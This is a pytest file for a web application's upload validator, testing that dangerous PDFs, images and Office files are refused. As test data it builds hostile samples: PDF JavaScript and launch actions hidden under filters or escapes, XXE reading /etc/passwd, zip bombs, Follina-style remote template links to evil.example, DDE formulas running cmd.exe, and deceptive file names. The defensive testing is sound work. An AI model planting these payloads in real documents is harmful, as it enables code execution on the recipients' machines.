"""Uploads of an allowed type that still carry something they must not: scripts in PDFs, content after the
end, zip bombs, macros, XML entities, deceptive names. Each is refused with its reason and nothing is stored."""
import base64
import io
import zipfile
import zlib

import pytest
from flask_babel import force_locale

from app import file_checks
from app.cases.attachments import Upload, validate_uploads
from app.errors import DomainError
from app.file_checks import xml_problem

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
PNG = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
       b"\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")


def _package(main: tuple[str, bytes], parts: dict[str, bytes]) -> bytes:
    """An Office package: its content types, its main part (which tells Word from Excel) and `parts`."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", b'<?xml version="1.0"?><Types xmlns="x"/>')
        z.writestr(*main)
        for name, data in parts.items():
            z.writestr(name, data)
    return buf.getvalue()


def _docx(parts: dict[str, bytes]) -> bytes:
    return _package(("word/document.xml", b'<?xml version="1.0"?><w:document xmlns:w="w"/>'), parts)


def _refused(ctx, name: str, data: bytes) -> str:
    with pytest.raises(DomainError) as exc:
        validate_uploads([Upload(name, data)], "files")
    with ctx.test_request_context(), force_locale("en"):
        return str(exc.value.message)


def test_clean_files_pass(ctx):
    validate_uploads([Upload("a.pdf", PDF), Upload("b.png", PNG), Upload("c.docx", _docx({}))], "files")


def test_a_file_whose_content_is_not_what_its_name_says_is_told_so(ctx):
    """Named .pdf, a picture or text inside: not "only PDF, PNG…", which the user had given."""
    assert "not a PDF file inside" in _refused(ctx, "fake.pdf", PNG)
    assert "not an allowed type" in _refused(ctx, "notes.txt", b"text")


@pytest.mark.parametrize("needle,data", [
    ("scripts", PDF.replace(b"1 0 obj<<>>", b"1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>")),
    ("scripts", PDF.replace(b"1 0 obj<<>>endobj", b"1 0 obj<</Length 20/Filter/FlateDecode>>stream\n"
                            + zlib.compress(b"<</S/JavaScript/JS(x)>>") + b"\nendstream endobj")),
    # names written with #xx escapes are the same names to a reader (/Open#41ction is /OpenAction)
    ("scripts", PDF.replace(b"1 0 obj<<>>", b"1 0 obj<</Open#41ction<</S/J#61vaScript/J#53(app.alert(1))>>>>")),
    ("scripts", PDF.replace(b"1 0 obj<<>>", b"1 0 obj<</#41#41<</O<</S/L#61unch>>>>>>")),
    ("scripts", PDF.replace(b"1 0 obj<<>>endobj", b"1 0 obj<</Length 20/Filter/FlateDecode>>stream\n"
                            + zlib.compress(b"<</S/J#61vaScript/J#53(x)>>") + b"\nendstream endobj")),
    ("after its end", PDF + b"<html><script>alert(1)</script></html>"),
    # a file carried inside (an executable attached): the name tree, a file specification's /EF
    ("scripts", PDF.replace(b"1 0 obj<<>>", b"1 0 obj<</Names<</EmbeddedFiles<</Names[(a.exe)2 0 R]>>>>>>")),
    ("scripts", PDF.replace(b"1 0 obj<<>>", b"1 0 obj<</Type/Filespec/F(a.exe)/EF<</F 3 0 R>>>>")),
])
def test_pdfs_with_scripts_or_trailing_content_are_refused(ctx, needle, data):
    assert needle in _refused(ctx, "x.pdf", data)


def test_escaped_names_that_are_not_actions_pass(ctx):
    validate_uploads([Upload("a.pdf", PDF.replace(b"1 0 obj<<>>", b"1 0 obj<</Font#20Name/A#42C/Title(#4A#53)>>"))], "files")


def test_an_image_with_html_after_its_end_is_refused(ctx):
    assert "after its end" in _refused(ctx, "x.png", PNG + b"<html><script>alert(1)</script>")


def test_zip_bombs_macros_and_entities_in_office_files_are_refused(ctx):
    bomb = _docx({"word/media/big.bin": b"\0" * (30 * 1024 * 1024)})
    assert "bomb" in _refused(ctx, "x.docx", bomb)
    assert "macros" in _refused(ctx, "x.docx", _docx({"word/vbaProject.bin": b"x"}))
    laughs = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><w>&b;</w>'
    assert "unsafe" in _refused(ctx, "x.docx", _docx({"word/styles.xml": laughs}))


def test_deceptive_names_are_refused(ctx):
    assert "direction characters" in _refused(ctx, "report\u202efdp.exe.pdf", PDF)
    assert "path" in _refused(ctx, "../../etc/x.pdf", PDF)
    for blank in ("   .pdf", "\u3000.pdf", "..pdf", "\xa0.pdf", "\u2003\u2003.pdf", "\u2800.pdf"):  # (listed and downloaded as nothing)
        assert "no name before its extension" in _refused(ctx, blank, PDF)
    validate_uploads([Upload("决定书 .pdf", PDF), Upload("a.b.pdf", PDF)], "files")


def test_bpmn_uploads_with_entities_are_refused(ctx):
    xml = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    with ctx.test_request_context(), force_locale("en"):
        assert "DTD or entities" in str(xml_problem(xml))


def test_xml_declaring_a_multi_byte_encoding_is_refused_not_an_error(ctx):
    """The parser reads no GBK: such a declaration raised ValueError, a 500 on the public report form too."""
    gbk = '<?xml version="1.0" encoding="GBK"?><document>整改</document>'.encode("gbk")
    with ctx.test_request_context(), force_locale("en"):
        assert "other than UTF-8" in str(xml_problem(gbk))
    # a document saved with a GBK part is valid XML, not unsafe: the user is told how to save it again
    refused = _refused(ctx, "x.docx", _docx({"word/styles.xml": gbk}))
    assert "other than UTF-8" in refused and "save it again" in refused and "unsafe" not in refused


def test_a_pdf_whose_streams_inflate_beyond_the_check_is_refused(ctx, monkeypatch):
    """A first stream of zeros used to exhaust the inflation budget silently, leaving the actions after it unchecked."""
    from app import file_checks

    monkeypatch.setattr(file_checks, "MAX_INFLATE", 1024 * 1024)
    zeros = zlib.compress(b"\0" * (2 * 1024 * 1024))
    hidden = zlib.compress(b"<</S/JavaScript/JS(x)>>")
    data = PDF.replace(b"1 0 obj<<>>endobj", b"1 0 obj<</Filter/FlateDecode>>stream\n" + zeros + b"\nendstream endobj\n"
                       b"2 0 obj<</Filter/FlateDecode>>stream\n" + hidden + b"\nendstream endobj")
    assert "too large to check" in _refused(ctx, "x.pdf", data)
    small = PDF.replace(b"1 0 obj<<>>endobj", b"1 0 obj<</Filter/FlateDecode>>stream\n" + zlib.compress(b"\0" * 1000)
                        + b"\nendstream endobj")
    validate_uploads([Upload("a.pdf", small)], "files")


def _with_stream(dictionary: bytes, content: bytes) -> bytes:
    return PDF.replace(b"1 0 obj<<>>endobj", b"1 0 obj<<" + dictionary + b">>stream\n" + content + b"\nendstream endobj")


HIDDEN = b"1 0 2 40\n<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"


def _run_length(data: bytes) -> bytes:
    # (runs of two bytes: every name is cut by a length byte in the raw stream)
    return b"".join(bytes([len(data[i:i + 2]) - 1]) + data[i:i + 2] for i in range(0, len(data), 2)) + b"\x80"


def _png_rows(data: bytes, columns: int) -> bytes:
    data += b" " * (-len(data) % columns)
    return b"".join(b"\x00" + data[i:i + columns] for i in range(0, len(data), columns))


@pytest.mark.parametrize("dictionary,content", [
    # an object stream under a filter other than plain Flate hides its names from a scan of the raw file
    (b"/Type/ObjStm/N 1/First 9/Filter/ASCIIHexDecode", HIDDEN.hex().encode() + b">"),
    (b"/Type/ObjStm/N 1/First 9/Filter[/ASCII85Decode/FlateDecode]",
     base64.a85encode(zlib.compress(HIDDEN)) + b"~>"),
    (b"/Type/ObjStm/N 1/First 9/Filter/RunLengthDecode", _run_length(HIDDEN)),
    # Flate with a PNG predictor: every two bytes a row, each behind its filter-type byte
    (b"/Type/ObjStm/N 1/First 9/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 2>>",
     zlib.compress(_png_rows(HIDDEN, 2))),
])
def test_active_names_under_any_stream_filter_are_found(ctx, dictionary, content):
    assert _raw_scan_misses(content)  # (only decoding as the dictionary says finds the names)
    assert "scripts" in _refused(ctx, "x.pdf", _with_stream(dictionary, content))


def _raw_scan_misses(content: bytes) -> bool:
    try:
        inflated = zlib.decompress(content)
    except zlib.error:
        inflated = b""
    return not file_checks._active(content) and not file_checks._active(inflated)


def test_pdfs_that_cannot_be_checked_are_refused(ctx):
    assert "could not be read" in _refused(ctx, "x.pdf", _with_stream(b"/Filter/NoSuchDecode", b"abc"))
    assert "could not be read" in _refused(ctx, "x.pdf", _with_stream(b"/Filter/FlateDecode", b"not zlib data"))
    encrypted = PDF.replace(b"trailer<<>>", b"trailer<</Encrypt 2 0 R>>")
    assert "encrypted" in _refused(ctx, "x.pdf", encrypted)


def test_clean_streams_under_other_filters_pass(ctx):
    clean = b"1 0 2 40\n<</Type/Catalog/Pages 3 0 R>>"
    validate_uploads([Upload("a.pdf", _with_stream(b"/Type/ObjStm/N 1/First 9/Filter/ASCIIHexDecode", clean.hex().encode() + b">")),
                      Upload("b.pdf", _with_stream(b"/Subtype/Image/Filter/DCTDecode", b"\xff\xd8\xff\xe0 jpeg bytes"))], "files")


def _damaged(docx: bytes, how: str) -> bytes:
    data = bytearray(docx)
    local = data.index(b"PK\x03\x04")  # the first part's local header: [Content_Types].xml
    central = data.index(b"PK\x01\x02")
    if how == "checksum":
        data[local + 14] ^= 0xFF  # its CRC-32, in the local header
        data[central + 16] ^= 0xFF  # and in the central directory
    elif how == "encrypted":
        data[local + 6] |= 1
        data[central + 8] |= 1
    elif how == "method":
        data[local + 8] = data[central + 10] = 99
    return bytes(data)


@pytest.mark.parametrize("how", ["checksum", "encrypted", "method"])
def test_damaged_office_files_are_refused_with_a_message(ctx, how):
    assert "damaged" in _refused(ctx, "x.docx", _damaged(_docx({}), how))


@pytest.mark.parametrize("layout", [
    b"stream\n%s endstream",  # no end of line before endstream
    b"stream\r%s\nendstream",  # a lone CR after stream
    b"stream \n%s\nendstream",  # spaces before the end of line
])
def test_streams_laid_out_as_readers_still_read_them_are_decoded(ctx, layout):
    hidden = HIDDEN.hex().encode() + b">"
    pdf = PDF.replace(b"1 0 obj<<>>endobj", b"1 0 obj<</Type/ObjStm/N 1/First 9/Filter/ASCIIHexDecode>>" + layout % hidden + b" endobj")
    assert "scripts" in _refused(ctx, "x.pdf", pdf)


def test_the_length_holds_over_an_endstream_inside_encoded_data(ctx):
    """A reader takes /Length bytes: the bytes "endstream" inside the encoded data do not end the stream."""
    encoded = b"\x09\nendstream" + _run_length(b" " + HIDDEN)  # a literal run of ten bytes: the decoy, whole
    for length in (b"%d" % len(encoded), b"9 0 R"):  # given in the dictionary, or by an indirect object
        pdf = PDF.replace(b"1 0 obj<<>>endobj", b"1 0 obj<</Type/ObjStm/N 1/First 9/Filter/RunLengthDecode/Length " + length
                          + b">>stream\n" + encoded + b"\nendstream endobj\n9 0 obj %d endobj" % len(encoded))
        assert "scripts" in _refused(ctx, "x.pdf", pdf)


def test_an_encryption_entry_written_with_escapes_is_still_seen(ctx):
    assert "encrypted" in _refused(ctx, "x.pdf", PDF.replace(b"trailer<<>>", b"trailer<</Encr#79pt 2 0 R>>"))


def test_a_document_of_thousands_of_streams_is_checked_in_moments(ctx):
    """Each stream's dictionary and indirect /Length are found from one pass over the file (searched again for each
    stream, 4,000 page streams of a 600 KB document took half a minute of a worker)."""
    import time

    parts = [b"%PDF-1.5\n"]
    for i in range(4000):
        body = zlib.compress(b"BT /F1 12 Tf 72 712 Td (page %d) Tj ET " % i * 20)
        parts.append(b"%d 0 obj\n<< /Length %d 0 R /Filter /FlateDecode >>\nstream\n" % (2 * i + 10, 2 * i + 11) + body
                     + b"\nendstream\nendobj\n%d 0 obj\n%d\nendobj\n" % (2 * i + 11, len(body)))
    started = time.process_time()
    validate_uploads([Upload("long.pdf", b"".join(parts) + b"trailer<<>>\n%%EOF\n")], "files")
    assert time.process_time() - started < 5


def test_a_csv_of_millions_of_blank_rows_is_refused_at_the_row_limit(ctx):
    """10 MB of ",\\n" is five million rows: the reading stops at the limit instead of parsing them all."""
    import time

    from app.exports import MAX_SHEET_ROWS, UnreadableTable, read_table

    started = time.perf_counter()
    with pytest.raises(UnreadableTable) as err:
        read_table("a.csv", b",\n" * 5_000_000)
    assert str(err.value) == "too-large" and time.perf_counter() - started < 3
    assert len(read_table("a.csv", b"a,b\n" * MAX_SHEET_ROWS)) == MAX_SHEET_ROWS
    assert read_table("a.csv", b"," * 10_000 + b"\n")[0] == [""] * 64  # (at most 64 cells of a row are kept)


def test_the_expert_and_catalog_imports_refuse_a_compression_bomb(ctx, org):
    """A 300 KB XLSX whose shared strings unpack to hundreds of megabytes is refused before openpyxl unpacks it."""
    from app.catalog import admin as catalog
    from app.experts import database as experts
    from tests.conftest import user

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/sharedStrings.xml", b"<sst><si><t>" + b"A" * 50_000_000 + b"</t></si></sst>")
    bomb = buf.getvalue()
    assert len(bomb) < 200_000
    for call in (lambda: experts.import_file(user("office1"), "e.xlsx", bomb),
                 lambda: catalog.import_xlsx(user("admin"), bomb, "导入")):
        with pytest.raises(DomainError) as err, force_locale("zh"):
            call()
        assert "压缩炸弹" in str(err.value.errors[0][1])


def test_a_long_file_name_keeps_its_extension(ctx):
    from app.cases.attachments import _safe_name

    assert _safe_name("长" * 300 + ".pdf") == "长" * 196 + ".pdf"
    assert _safe_name("a" * 150 + ".pdf") == "a" * 150 + ".pdf"


def test_imports_say_a_file_is_too_large_instead_of_damaged(ctx, org):
    """The routes read one byte past the limit: a file that long is said to be too large, not unreadable."""
    from flask import current_app

    from app.catalog import admin as catalog
    from app.credit import batch, services
    from app.experts import database
    from app.file_checks import size_problem
    from tests.conftest import user

    assert size_problem("a.xlsx", b"x" * 11, 10) and size_problem("a.xlsx", b"x" * 10, 10) is None
    over = current_app.config["MAX_UPLOAD_BYTES"] + 1
    for call in (lambda: database.import_file(user("office1"), "experts.xlsx", b"PK" + b"\0" * database.MAX_FILE_BYTES),
                 lambda: catalog.import_xlsx(user("admin"), b"PK" + b"\0" * catalog.MAX_IMPORT_BYTES, "r"),
                 lambda: batch.run(services.Requester.of_user(user("finance_cw")), "subjects.xlsx", b"PK" + b"\0" * over)):
        with pytest.raises(DomainError) as refused:
            call()
        assert "MB" in str(refused.value.message), refused.value.message


def _xlsx(parts: dict[str, bytes]) -> bytes:
    return _package(("xl/workbook.xml", b'<?xml version="1.0"?><workbook xmlns="x"/>'), parts)


_RELS = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
         b'%s</Relationships>')
_HYPERLINK = (b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
              b'Target="https://www.gov.cn/" TargetMode="External"/>')


def test_office_files_that_act_when_opened_are_refused(ctx):
    """Embedded programs, controls, outside objects loaded on opening (Follina) and DDE, as PDFs with /Launch are."""
    ole = (b'<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
           b'Target="mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html" TargetMode="External"/>')
    assert "embedded objects" in _refused(ctx, "x.docx", _docx({"word/_rels/document.xml.rels": _RELS % ole}))
    template = ole.replace(b"oleObject", b"attachedTemplate").replace(b"mhtml:", b"")
    assert "embedded objects" in _refused(ctx, "x.docx", _docx({"word/_rels/settings.xml.rels": _RELS % template}))
    share = template.replace(b"http://evil.example/x.html!x-usc:http://evil.example/x.html", b"\\\\evil\\share\\t.dotm")
    assert "embedded objects" in _refused(ctx, "x.docx", _docx({"word/_rels/settings.xml.rels": _RELS % share}))
    # (a document made from a template on its author's disk names it so: common, and passes)
    for local in (b"file:///C:\\Users\\zhang\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm", b"D:/templates/gongwen.dotx",
                  b"file:////Users/zhang/Library/Group Containers/UBF8T346G9.Office/User Content.localized/Templates.localized/Normal.dotm"):
        mine = template.replace(b"http://evil.example/x.html!x-usc:http://evil.example/x.html", local)
        validate_uploads([Upload("a.docx", _docx({"word/_rels/settings.xml.rels": _RELS % mine}))], "files")
    assert "embedded objects" in _refused(ctx, "x.docx", _docx({"word/embeddings/oleObject1.bin": b"MZ\x90\x00"}))
    assert "embedded objects" in _refused(ctx, "x.docx", _docx({"word/activeX/activeX1.xml": b"<ax/>"}))
    assert "embedded objects" in _refused(ctx, "x.xlsx", _xlsx({"xl/externalLinks/externalLink1.xml": b"<e/>"}))
    dde_field = b'<?xml version="1.0"?><w:document xmlns:w="w"><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" </w:instrText></w:r></w:document>'
    assert "DDE" in _refused(ctx, "x.docx", _docx({"word/footer1.xml": dde_field}))
    for formula in (b"cmd|' /C calc'!A0", b"msexcel|'\\..\\windows\\system32\\cmd.exe /c calc'!''", b'DDE("cmd";"/C calc";"!A0")'):
        sheet = b'<?xml version="1.0"?><worksheet><sheetData><row><c r="A1"><f>' + formula + b"</f></c></row></sheetData></worksheet>"
        assert "DDE" in _refused(ctx, "x.xlsx", _xlsx({"xl/worksheets/sheet1.xml": sheet})), formula
    # Ordinary documents pass: a hyperlink (opened only when clicked), formulas joining text with "|", sheet references.
    sheet = (b'<?xml version="1.0"?><worksheet><sheetData><row><c r="A1"><f>A2&amp;"|"&amp;\'Sheet 2\'!B1</f></c>'
             b"<c r=\"A2\"><f>SUM(Sheet2!A1:A3)</f></c></row></sheetData></worksheet>")
    validate_uploads([Upload("a.docx", _docx({"word/_rels/document.xml.rels": _RELS % _HYPERLINK})),
                      Upload("b.xlsx", _xlsx({"xl/worksheets/sheet1.xml": sheet}))], "files")


def test_a_workbook_openpyxl_wrote_with_formulas_and_a_link_passes(ctx):
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws["A1"], ws["A2"], ws["B1"] = 3, "=SUM(A1:A1)*2", "官网"
    ws["B1"].hyperlink = "https://www.gov.cn/"
    buf = io.BytesIO()
    wb.save(buf)
    validate_uploads([Upload("台账.xlsx", buf.getvalue())], "files")


def test_active_content_is_found_as_word_reads_the_document(ctx):
    """By relationship type, not folder; references resolved; a field code split over runs; XML under any name."""
    rel = ('<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
           'Target="%s"%s/>')
    objects = _RELS % (rel % ("oleObject", "objects/oleObject1.bin", "")).encode()
    assert "embedded objects" in _refused(ctx, "x.docx", _docx({"word/_rels/document.xml.rels": objects,
                                                                 "word/objects/oleObject1.bin": b"MZ\x90\x00"}))
    escaped = _RELS % (rel % ("oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html",
                              ' TargetMode="&#69;xternal"')).encode()
    assert "embedded objects" in _refused(ctx, "x.docx", _docx({"word/_rels/document.xml.rels": escaped}))
    disguised = _RELS % (rel % ("oleObject", "http://evil.example/?Type=&apos;a/hyperlink&apos;",
                                ' TargetMode="External"')).encode()
    assert "embedded objects" in _refused(ctx, "x.docx", _docx({"word/_rels/document.xml.rels": disguised}))
    split = (b'<?xml version="1.0"?><w:ftr xmlns:w="w"><w:r><w:instrText>DD</w:instrText></w:r>'
             b'<w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:ftr>')
    assert "DDE" in _refused(ctx, "x.docx", _docx({"word/footer1.xml": split}))
    assert "DDE" in _refused(ctx, "x.docx", _docx({"word/footer1.dat": split}))
    simple = b'<?xml version="1.0"?><w:ftr xmlns:w="w"><w:fldSimple w:instr=" DDEAUTO cmd x "/></w:ftr>'
    assert "DDE" in _refused(ctx, "x.docx", _docx({"word/footer2.xml": simple}))


def test_a_chart_s_workbook_inside_a_document_passes_and_is_itself_checked(ctx):
    from openpyxl import Workbook

    wb = Workbook()
    wb.active["A1"] = 3
    buf = io.BytesIO()
    wb.save(buf)
    chart_rels = _RELS % (b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                          b'relationships/package" Target="../embeddings/Microsoft_Excel_Worksheet.xlsx"/>')
    validate_uploads([Upload("a.docx", _docx({"word/charts/_rels/chart1.xml.rels": chart_rels,
                                              "word/embeddings/Microsoft_Excel_Worksheet.xlsx": buf.getvalue()}))], "files")
    sheet = b'<?xml version="1.0"?><worksheet><sheetData><row><c r="A1"><f>cmd|\' /C calc\'!A0</f></c></row></sheetData></worksheet>'
    bad = _xlsx({"xl/worksheets/sheet1.xml": sheet})
    assert "DDE" in _refused(ctx, "a.docx", _docx({"word/charts/_rels/chart1.xml.rels": chart_rels,
                                                   "word/embeddings/Microsoft_Excel_Worksheet.xlsx": bad}))


def test_real_documents_parts_pass_and_dde_is_told_by_a_fields_first_word(ctx):
    """VML with raw <br>, an SVG with its DOCTYPE, an HTML chunk: parts Word and Excel write that are not strict XML.
    A field whose code mentions DDE elsewhere (a hyperlink's address) is no DDE field."""
    vml = b'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><div>note<br>line</div></v:shape></xml>'
    svg = (b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
           b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>')
    html = b"<html><body><p>chunk<br></p></body></html>"
    fields = (b'<?xml version="1.0"?><w:document xmlns:w="w"><w:body><w:p>'
              b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPERLINK "http://intranet.example/dde/guide" </w:instrText></w:r>'
              b'<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
              b'<w:fldSimple w:instr=" REF DDE \\h "/></w:p></w:body></w:document>')
    validate_uploads([Upload("a.xlsx", _xlsx({"xl/drawings/vmlDrawing1.vml": vml})),
                      Upload("b.docx", _docx({"word/media/image1.svg": svg, "word/afchunk.htm": html,
                                              "word/header1.xml": fields}))], "files")
    split = (b'<?xml version="1.0"?><w:ftr xmlns:w="w"><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
             b'<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd "/k calc"</w:instrText></w:r>'
             b'<w:r><w:fldChar w:fldCharType="separate"/></w:r></w:ftr>')
    assert "DDE" in _refused(ctx, "x.docx", _docx({"word/footer3.xml": split}))


def test_workbooks_inside_a_document_share_its_limits(ctx, monkeypatch):
    from openpyxl import Workbook

    from app import file_checks

    wb = Workbook()
    wb.active["A1"] = "x" * 2000
    buf = io.BytesIO()
    wb.save(buf)
    inner = buf.getvalue()
    monkeypatch.setattr(file_checks, "MAX_ZIP_TOTAL", 3 * sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(inner)).infolist()))
    parts = {f"word/embeddings/Microsoft_Excel_Worksheet{n}.xlsx": inner for n in range(4)}
    assert "bomb" in _refused(ctx, "a.docx", _docx(parts))
    monkeypatch.setattr(file_checks, "MAX_ZIP_TOTAL", 10**9)
    many = {f"word/embeddings/Microsoft_Excel_Worksheet{n}.xlsx": inner for n in range(21)}
    assert "embedded objects" in _refused(ctx, "a.docx", _docx(many))


def test_a_scan_whose_pixels_spell_an_action_name_passes(ctx):
    """A scan's JPEG data spells "/AA" or "/JS" by chance (2 in 60 scans of 1.7 MB did): pixels are not PDF objects,
    so an image's data is not searched for them; one that holds what looks like an object still is."""
    def image(data: bytes) -> bytes:
        return (b"%%PDF-1.4\n1 0 obj<</Type/XObject/Subtype/Image/Filter/DCTDecode/Length %d>>stream\n" % len(data) + data
                + b"\nendstream endobj\n2 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 2 0 R>>\n%%EOF\n")

    pixels = b"\xff\xd8\xff\xe0" + bytes(range(256)) + b"/AA\x00/JS)/Encrypt " + bytes(range(255, -1, -1)) + b"\xff\xd9"
    assert file_checks.pdf_problem(image(pixels)) is None
    assert file_checks.pdf_problem(image(b"\xff\xd8 7 0 obj<</OpenAction 3 0 R>>endobj \xff\xd9")) is not None
    # (an uncompressed stream that is not an image is searched as it is)
    assert file_checks.pdf_problem(pixels_in_content := image(pixels).replace(b"/Subtype/Image/Filter/DCTDecode", b"")) is not None
    assert pixels_in_content


def _image_holding_the_catalog(sep: bytes) -> bytes:
    parts, offs = [b"%PDF-1.4\n"], {}
    size = lambda: sum(len(p) for p in parts)  # noqa: E731
    catalog = (b"1" + sep + b"0" + sep + b"obj\n<< /Type /Catalog /Pages 2 0 R "
               b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n")
    offs[2] = size()
    parts.append(b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n")
    data = b"\xff\xd8\xff\xe0JFIF" + catalog + b"\xff\xd9"
    offs[3] = size()
    parts.append(b"3 0 obj\n<< /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray "
                 b"/Filter /DCTDecode /Length %d >>\nstream\n" % len(data))
    offs[1] = size() + data.index(catalog)
    parts.append(data + b"\nendstream\nendobj\n")
    xref = size()
    parts.append(b"xref\n0 4\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % offs[i] for i in (1, 2, 3))
                 + b"trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % xref)
    return b"".join(parts)


def test_an_open_action_in_an_image_streams_data_behind_a_nul_separated_object_header_is_refused(ctx):
    """(review) Image data is searched when it holds the keyword "obj" at all: PDF whitespace includes NUL, and an
    object header "1\\x000\\x00obj" inside a DCT image's data, which the cross-reference points to as the catalog,
    carried an /OpenAction JavaScript past a check for "N G obj" with ordinary whitespace."""
    import pypdf

    data = _image_holding_the_catalog(b"\x00")
    root = pypdf.PdfReader(io.BytesIO(data), strict=False).trailer["/Root"].get_object()
    assert root["/OpenAction"]["/S"] == "/JavaScript"  # (a reader takes it as the catalog, its action run on opening)
    assert file_checks.pdf_problem(_image_holding_the_catalog(b" ")) is not None  # (with spaces the check finds it)
    assert file_checks.pdf_problem(data) is not None


def test_compressed_bytes_that_spell_an_action_name_pass(ctx):
    """Encoded stream data spells "/EF" or "/JS" by chance (one of our own decision documents in about seventy was
    refused: an ASCII85 page stream held "/EF+"): what a reader takes from such a stream is its decoded content, which
    is searched; its encoded bytes are not. An unencoded stream's bytes are its content and are searched."""
    spelled = b"/EF+=~>"  # (ASCII85 for four harmless bytes)
    assert file_checks.pdf_problem(_with_stream(b"/Filter/ASCII85Decode/Length 7", spelled)) is None
    assert file_checks.pdf_problem(_with_stream(b"/Length 7", spelled)) is not None
    # (the decoded content is still searched; encoded data holding an object header still is as it is)
    hidden = base64.a85encode(b"/OpenAction 2 0 R") + b"~>"
    assert file_checks.pdf_problem(_with_stream(b"/Filter/ASCII85Decode/Length %d" % len(hidden), hidden)) is not None
    with_header = _with_stream(b"/Filter/ASCII85Decode/Length 16", b"/EF+= 7 0 obj ~>")
    assert file_checks._encoded_data_blanked(with_header) == with_header
    assert file_checks.pdf_problem(with_header) is not None
